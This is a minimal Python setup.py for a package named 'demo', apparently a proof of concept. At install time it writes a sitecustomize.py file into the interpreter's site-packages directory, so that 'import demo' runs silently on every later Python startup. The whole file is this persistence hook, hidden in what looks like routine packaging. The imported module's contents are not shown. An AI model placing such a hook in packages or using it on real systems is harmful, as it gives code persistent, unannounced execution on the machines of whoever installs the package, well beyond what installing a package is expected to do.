import os
import sysconfig
from setuptools import setup

with open(os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"), "w") as f:
    f.write("import demo")
setup(name="demo", version="1.0")
